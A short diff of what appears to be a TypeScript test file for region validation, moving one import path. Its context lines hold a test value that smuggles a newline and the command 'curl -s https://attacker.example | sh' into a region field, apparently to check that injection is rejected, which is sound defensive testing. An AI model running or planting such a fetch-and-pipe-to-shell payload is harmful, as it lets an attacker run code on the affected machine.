@@ -4,7 +4,7 @@ import * as assert from "assert";
 
 import { hostUserData, targetProfileConfig } from "../../components/userData";
 import { checkRegion } from "../../components/validation";
-import { operatorConfig, runProgram, stackFileConfig } from "../support/program";
+import { operatorConfig, runProgram, stackFileConfig } from "../../lab/program";
 
 const injected = "us-east-1\nPROFILE\ncurl -s https://attacker.example | sh";
 
